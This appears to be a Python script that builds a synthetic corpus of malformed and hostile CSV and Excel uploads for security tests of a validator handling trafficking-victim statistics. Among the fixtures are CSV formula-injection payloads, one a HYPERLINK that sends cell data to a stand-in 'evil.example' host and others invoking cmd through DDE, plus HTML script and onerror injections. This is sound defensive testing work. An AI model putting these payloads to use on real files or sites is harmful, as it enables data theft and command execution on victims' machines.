"""Rebuild the hostile-return corpus in this folder (run once; the files are committed).

    .venv/bin/python tests/security/hostile_returns/build_corpus.py

Every file is SYNTHETIC. What each file must do (rejected with which rule, or accepted with
how many rows) is written by hand in README.md and in ``tests/security/test_hostile_returns.py``;
this script only writes bytes. The zip bombs are built at test time (too big to commit).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEADER = ["partner", "period", "district", "sex", "age_group", "citizenship", "exploitation",
          "status", "signalled_by", "count"]
ROWS = [
    ["APF", "2024-03", "PT-11", "F", "25-34", "BR", "sexual_prostitution", "presumed", "ngo", "2"],
    ["APF", "2024-03", "PT-13", "M", "18-24", "RO", "labour", "confirmed", "police", "1"],
    ["APF", "2024-03", "PT-08", "F", "18-24", "PT", "sexual_online", "presumed", "hotline", "0"],
]
SUPPORT_HEADER = ["partner", "period", "district", "sex", "age_group", "support", "case",
                  "count"]
SUPPORT_ROWS = [
    ["APF", "2024-03", "PT-11", "F", "25-34", "shelter", "new", "2"],
    ["APF", "2024-03", "PT-11", "F", "25-34", "psychological", "ongoing", "4"],
]


def text(rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def with_cell(row: int, column: str, value: str, header: list[str] | None = None,
              ) -> list[list[str]]:
    """The valid victims rows with one cell changed (row as a spreadsheet shows it)."""
    rows = [list(header or HEADER)] + [list(r) for r in ROWS]
    rows[row - 1][HEADER.index(column)] = value
    return rows


def csv_files() -> dict[str, bytes]:
    valid = text([HEADER, *ROWS])
    pt_header = valid.replace("period,", "período,", 1)
    files: dict[str, bytes] = {
        # --- encodings
        "enc_utf16le_bom.csv": valid.encode("utf-16"),
        "enc_utf16be_nobom.csv": valid.encode("utf-16-be"),
        "enc_latin1_labelled_utf8.csv": pt_header.encode("latin-1"),
        "enc_utf8_header_latin1_row.csv": pt_header.encode("utf-8")
        + "APF,2024-03,PT-08,F,18-24,PT,labour,presumed,ngo,3 Ç\r\n".encode("latin-1"),
        "enc_undefined_cp1252_byte.csv": valid.encode() + b"APF,2024-03,PT-08,\x81,x\r\n",
        # --- delimiters
        "delim_tab.csv": text([HEADER, *ROWS], "\t").encode(),
        "delim_semicolon.csv": text([HEADER, *ROWS], ";").encode(),
        "delim_pipe.csv": text([HEADER, *ROWS], "|").encode(),
        "delim_mixed.csv": (text([HEADER]) + text(ROWS, ";")).encode(),
        "delim_sep_hint.csv": ("sep=;\r\n" + text([HEADER, *ROWS], ";")).encode(),
        # --- byte-order marks
        "bom_utf8.csv": b"\xef\xbb\xbf" + valid.encode(),
        "bom_utf8_twice.csv": b"\xef\xbb\xbf\xef\xbb\xbf" + valid.encode(),
        # --- truncated and empty
        "trunc_mid_row.csv": valid.encode()[: valid.encode().rindex(b",presumed")],
        "trunc_mid_quote.csv": (text([HEADER, *ROWS[:2]])
                                + 'APF,2024-03,"PT-08,F,18-24,PT,sexual_online').encode(),
        "empty.csv": b"",
        "blank_lines_only.csv": b"\r\n \r\n\t\r\n",
        "header_only.csv": text([HEADER]).encode(),
        # --- numbers
        "num_1e30.csv": text(with_cell(2, "count", "1e30")).encode(),
        "num_20_digits.csv": text(with_cell(2, "count", "99999999999999999999")).encode(),
        "num_over_max.csv": text(with_cell(3, "count", "100001")).encode(),
        "num_negative.csv": text(with_cell(2, "count", "-3")).encode(),
        "num_decimal.csv": text(with_cell(2, "count", "2.5")).encode(),
        "num_decimal_zero.csv": text(with_cell(4, "count", "0,0")).encode(),
        "num_max_allowed.csv": text(with_cell(2, "count", "100000")).encode(),
        # --- spreadsheet formulas (CSV injection)
        "formula_hyperlink.csv": text(with_cell(
            2, "district", '=HYPERLINK("http://evil.example/?x="&A1,"click")')).encode(),
        "formula_plus_cmd.csv": text(with_cell(2, "sex", "+cmd|' /C calc'!A0")).encode(),
        "formula_at_sum.csv": text(with_cell(3, "age_group", "@SUM(1+1)*cmd|' /C calc'!A0")
                                   ).encode(),
        "formula_minus.csv": text(with_cell(2, "count", "-1+1")).encode(),
        # --- markup
        "html_script_cell.csv": text(with_cell(
            2, "citizenship", "<script>alert('x')</script>")).encode(),
        "html_script_header.csv": text(with_cell(
            1, "signalled_by", '<img src=x onerror="alert(1)">')).encode(),
        # --- personal data
        "pii_name_column.csv": text(
            [[*HEADER[:-1], "nome", "count"]]
            + [[*r[:-1], n, r[-1]] for r, n in zip(ROWS, ("Maria Silva", "João Costa",
                                                          "Ana Lima"), strict=True)]).encode(),
        "pii_email.csv": text(with_cell(3, "district", "maria.silva@example.pt")).encode(),
        "pii_nif.csv": text(with_cell(2, "citizenship", "123456789")).encode(),
        "pii_phone.csv": text(with_cell(4, "signalled_by", "+351 912 345 678")).encode(),
        "pii_birth_date.csv": text(
            [[*HEADER[:-1], "data_nascimento", "count"]]
            + [[*r[:-1], d, r[-1]] for r, d in zip(ROWS, ("17/05/1990", "1985-11-02",
                                                          "01.01.2001"), strict=True)]).encode(),
        # --- partners and keys
        "mixed_partners.csv": text(with_cell(3, "partner", "OTSH")).encode(),
        "unknown_partner.csv": text(with_cell(2, "partner", "XPTO")).encode(),
        "duplicated_key.csv": text([HEADER, *ROWS, ROWS[0][:-1] + ["5"]]).encode(),
        "duplicated_column.csv": text([[*HEADER, "count"], *[[*r, r[-1]] for r in ROWS]]
                                      ).encode(),
        # --- not CSV at all
        "zip_named.csv": b"PK\x03\x04" + b"\x00" * 60,
        "binary_noise.csv": bytes(range(256)) * 4,
        "victims.exe": valid.encode(),
        "no_extension": valid.encode(),
    }
    return files


def xlsx_files(folder: Path) -> None:
    import xlsxwriter

    def book(name: str, sheets: list[tuple[str, list[list], bool]]) -> None:
        workbook = xlsxwriter.Workbook(str(folder / name), {"strings_to_numbers": False,
                                                            "strings_to_formulas": False})
        workbook.set_properties({"created": None})
        for sheet_name, rows, hidden in sheets:
            sheet = workbook.add_worksheet(sheet_name)
            for r, row in enumerate(rows):
                for c, value in enumerate(row):
                    if isinstance(value, str) and value.startswith("="):
                        sheet.write_formula(r, c, value, None, 2)
                    elif isinstance(value, str):
                        sheet.write_string(r, c, value)
                    else:
                        sheet.write_number(r, c, value)
            if hidden:
                sheet.hide()
        workbook.close()

    victims = [HEADER, *[[*r[:-1], int(r[-1])] for r in ROWS]]
    support = [SUPPORT_HEADER, *[[*r[:-1], int(r[-1])] for r in SUPPORT_ROWS]]
    instructions = [["Preencha uma linha por célula / one row per cell"]]
    book("xlsx_several_sheets.xlsx", [("Instrucoes", instructions, False),
                                      ("victims", victims, False), ("support", support, False)])
    book("xlsx_hidden_data_sheet.xlsx", [("victims", victims, False),
                                         ("Folha oculta", [["nome", "email"],
                                                           ["Maria Silva", "maria@example.pt"]],
                                          True)])
    book("xlsx_hidden_valid_sheet.xlsx", [("victims", victims, False),
                                          ("support", support, True)])
    book("xlsx_formula_count.xlsx", [("victims", [HEADER, *[[*r[:-1], int(r[-1])]
                                                            for r in ROWS[:2]],
                                                  [*ROWS[2][:-1], "=1+1"]], False)])
    book("xlsx_same_type_twice.xlsx", [("victims", victims, False),
                                       ("vitimas", victims, False)])


def main() -> None:
    for name, data in csv_files().items():
        (HERE / name).write_bytes(data)
    xlsx_files(HERE)
    (HERE / "csv_as_xlsx.xlsx").write_bytes(text([HEADER, *ROWS]).encode())
    (HERE / "truncated_workbook.xlsx").write_bytes(
        (HERE / "xlsx_several_sheets.xlsx").read_bytes()[:1500])


if __name__ == "__main__":
    main()
